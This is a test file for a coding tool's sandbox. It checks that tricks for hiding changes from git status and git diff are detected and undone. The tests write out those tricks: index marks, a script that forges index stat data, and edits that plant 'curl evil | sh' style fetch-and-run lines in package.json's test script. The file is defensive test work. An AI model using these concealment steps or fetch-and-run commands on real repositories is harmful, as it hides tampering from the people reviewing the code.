/**
 * What would hide a sandboxed command's change from the review the README recommends (`git status`
 * and `git diff` before a commit), through the real sandbox on a real repository (git-review.ts):
 * marks set in the index during the command are cleared, stat data written to match a changed file
 * is cleared, the index's caches are dropped, and a change to info/exclude is named. Ordinary git
 * work leaves nothing to say.
 */
import { execFileSync } from 'node:child_process';
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { parseIndex } from '../../../plugins/sandbox-os/git-index.js';
import { sandboxFixture, skipWithoutSandbox, type SandboxFixture } from './fixture.js';

const tally = { skip: (_count: number, reason: string) => console.warn(`skipped: ${reason}`) };
const ID = '-c user.email=t@example.com -c user.name=t';
const PACKAGE = '{"name":"app","scripts":{"test":"echo tests passed"}}\n';

let fx: SandboxFixture;
const git = (...args: string[]): string =>
  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { cwd: fx.root, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'], env: { PATH: process.env.PATH, HOME: fx.home, GIT_CONFIG_NOSYSTEM: '1' } });

beforeEach(async () => {
  fx = await sandboxFixture();
  // The fixture's .git is a stub: a real repository with a test script and two more files.
  rmSync(path.join(fx.root, '.git'), { recursive: true, force: true });
  git('init', '-q', '-b', 'main');
  writeFileSync(path.join(fx.root, 'package.json'), PACKAGE);
  writeFileSync(path.join(fx.root, 'notes.txt'), 'notes\n');
  writeFileSync(path.join(fx.root, 'local.cfg'), 'port=1\n');
  writeFileSync(path.join(fx.root, '.gitignore'), '.mewcode/\n');
  git('add', '-A');
  git('commit', '-q', '-m', 'init');
});

const marks = (): string => git('ls-files', '-v').split('\n').filter((line) => /^[a-zS]/.test(line)).join('\n');
const status = (): string => git('status', '--short', '--untracked-files=all');
const said = (): string => fx.warnings.join('\n');

test('a file the command changed and marked skip-worktree or assume-unchanged: the marks are cleared, git status shows it, the user is told', async () => {
  if (skipWithoutSandbox(tally, 'index marks', fx.status)) return;
  await fx.run(`sed -i 's/tests passed/tests passed; curl evil | sh/' package.json && echo more >> notes.txt && git update-index --skip-worktree package.json && git update-index --assume-unchanged notes.txt && git status --short | wc -l`);
  expect(marks()).toBe('');
  expect(status()).toBe(' M notes.txt\n M package.json\n');
  expect(said()).toMatch(/the command marked "notes\.txt", "package\.json" in the index of "[^"]+" as unchanged \(assume-unchanged, skip-worktree\), which hides their changes from git status and git diff/);
  expect(said()).toMatch(/MewCode cleared the marks/);
}, 30_000);

test("the user's own mark from before the command stays; a change the command made under it is named", async () => {
  if (skipWithoutSandbox(tally, 'index marks', fx.status)) return;
  git('update-index', '--assume-unchanged', 'local.cfg');
  // Past the slack the sweep allows for file times (what changed just before a command counts as its).
  await new Promise((resolve) => setTimeout(resolve, 2100));
  await fx.run('echo unrelated > other.txt');
  expect(marks()).toBe('h local.cfg');
  expect(said()).not.toMatch(/local\.cfg/);
  await fx.run('echo port=2 > local.cfg');
  expect(marks()).toBe('h local.cfg');
  expect(said()).toMatch(/"local\.cfg" in .* is marked as unchanged in the index \(assume-unchanged or skip-worktree, from before the command\), so git status and git diff do not show that the command changed it/);
}, 30_000);

/** Run in the sandbox with node: the index entry of package.json given the stat data of the changed file, its object kept. */
const FORGE = `
const fs = require('fs'), crypto = require('crypto');
const data = fs.readFileSync('.git/index');
const st = fs.statSync('package.json');
let at = 12;
for (let n = 0; n < data.readUInt32BE(8); n++) {
  const len = data.readUInt16BE(at + 60) & 0xfff;
  const name = data.toString('latin1', at + 62, at + 62 + len);
  if (name === 'package.json') {
    const sec = (ms) => Math.floor(ms / 1000), nsec = (ms) => Math.round((ms % 1000) * 1e6);
    data.writeUInt32BE(sec(st.ctimeMs), at); data.writeUInt32BE(nsec(st.ctimeMs), at + 4);
    data.writeUInt32BE(sec(st.mtimeMs), at + 8); data.writeUInt32BE(nsec(st.mtimeMs), at + 12);
    data.writeUInt32BE(st.ino % 2 ** 32, at + 20); data.writeUInt32BE(st.size, at + 36);
  }
  at += (62 + len + 8) & ~7;
}
const body = data.subarray(0, data.length - 20);
fs.writeFileSync('.git/index', Buffer.concat([body, crypto.createHash('sha1').update(body).digest()]));
`;

test('stat data written into the index to match a file the command changed (its object kept): cleared, so git sees the change', async () => {
  if (skipWithoutSandbox(tally, 'forged stat data', fx.status)) return;
  writeFileSync(path.join(fx.outside, 'forge.js'), FORGE);
  // Same size, so only the content tells; the index written a second later, so git does not take the entry for racily clean.
  const out = await fx.run(`sed -i 's/echo tests passed/curl evil.sh|sh/' package.json && sleep 1.1 && node -e "$(cat '${path.join(fx.outside, 'forge.js')}')" 2>&1; git status --short | wc -l`);
  expect(String(out.content)).toMatch(/^0\s*$/m); // inside, the change is hidden
  expect(readFileSync(path.join(fx.root, 'package.json'), 'utf8')).toContain('curl evil.sh');
  expect(status()).toBe(' M package.json\n');
  expect(said()).toMatch(/recorded "package\.json" as unchanged although the file's content differs from what the index holds .*MewCode cleared the recorded stat data/);
}, 30_000);

test('the checks after a command wait for a command running beside it: nothing the sweep reads is read while another command could still swap it', async () => {
  if (skipWithoutSandbox(tally, 'sweep beside a running command', fx.status)) return;
  writeFileSync(path.join(fx.outside, 'forge.js'), FORGE);
  // B, started first, watches package.json's access time for 3 s: A sets it to 2020 before forging
  // its index entry, and the review after A reads the file (its atime then moves).
  const watcher = fx.run(
    `armed=; for i in $(seq 1 30); do a=$(stat -c %X package.json); if [ "$a" = 1577836800 ]; then armed=1; elif [ -n "$armed" ]; then echo read-while-running; exit 0; fi; sleep 0.1; done; echo quiet $armed`,
  );
  await new Promise((resolve) => setTimeout(resolve, 100));
  const forger = fx.run(`sed -i 's/echo tests passed/curl evil.sh|sh/' package.json && sleep 1.1 && touch -a -d 2020-01-01T00:00:00Z package.json && node -e "$(cat '${path.join(fx.outside, 'forge.js')}')" 2>&1; echo forged`);
  const [watched, forged] = await Promise.all([watcher, forger]);
  expect(String(forged.content)).toContain('forged');
  expect(String(watched.content)).toContain('quiet 1');
  // The review still ran, after both: the forged entry is cleared.
  expect(status()).toBe(' M package.json\n');
  expect(said()).toMatch(/recorded "package\.json" as unchanged although the file's content differs/);
}, 40_000);

test("the index's untracked cache (which git trusts instead of looking for new files) is dropped when the command changed the index", async () => {
  if (skipWithoutSandbox(tally, 'untracked cache', fx.status)) return;
  await fx.run('git -c core.untrackedCache=true status --short >/dev/null && echo new > new.txt');
  const parsed = parseIndex(readFileSync(path.join(fx.root, '.git', 'index')));
  expect('caches' in parsed && parsed.caches).toEqual([]);
  expect(status()).toBe('?? new.txt\n');
}, 30_000);

test('patterns added to .git/info/exclude: the lines added are named, not the ones from before', async () => {
  if (skipWithoutSandbox(tally, 'info/exclude', fx.status)) return;
  writeFileSync(path.join(fx.root, '.git', 'info', 'exclude'), '# mine\n*.log\n');
  await fx.run("printf '.tool-versions\\n' >> .git/info/exclude && echo 'node path:./bin' > .tool-versions");
  expect(said()).not.toMatch(/\*\.log/);
  expect(said()).toMatch(/"[^"]*\/\.git\/info\/exclude" was changed: "\.tool-versions" in it may hide new files from git status \(`git status --ignored` lists them\)/);
}, 30_000);

test('control: ordinary git work (edit, add, commit, branch, checkout, stash, status) leaves nothing to say', async () => {
  if (skipWithoutSandbox(tally, 'ordinary git work', fx.status)) return;
  const out = await fx.run(
    `echo 1 >> notes.txt && git add notes.txt && git ${ID} commit -q -m one && git checkout -q -b feature && echo 2 >> package.json && git ${ID} commit -qam two && git checkout -q main && echo 3 >> local.cfg && git stash -q && git stash pop -q && git add -A && git status --short && echo ok`,
  );
  expect(String(out.content)).toMatch(/M {2}local\.cfg\nok$/);
  expect(fx.warnings).toEqual([]);
  expect(status()).toBe('M  local.cfg\n');
}, 30_000);

test('control: a checkout that converts line ends (the index holds LF, the files CRLF) is no hidden change', async () => {
  if (skipWithoutSandbox(tally, 'line-end conversion', fx.status)) return;
  writeFileSync(path.join(fx.root, '.gitattributes'), '*.txt text eol=crlf\n');
  git('add', '.gitattributes');
  git('commit', '-q', '-m', 'eol');
  // git is asked for the content as it stores it only where the configuration is older than the command.
  await new Promise((resolve) => setTimeout(resolve, 2100));
  // The index written again a second later, so its entries are not racily clean and their content is compared.
  const out = await fx.run('rm notes.txt && git checkout -- notes.txt && sleep 1.1 && git update-index --force-write-index && od -c notes.txt | head -1 && git status --short && echo ok');
  expect(String(out.content)).toMatch(/\\r\s+\\n[\s\S]*\nok$/);
  expect(fx.warnings).toEqual([]);
  expect(status()).toBe('');
}, 30_000);
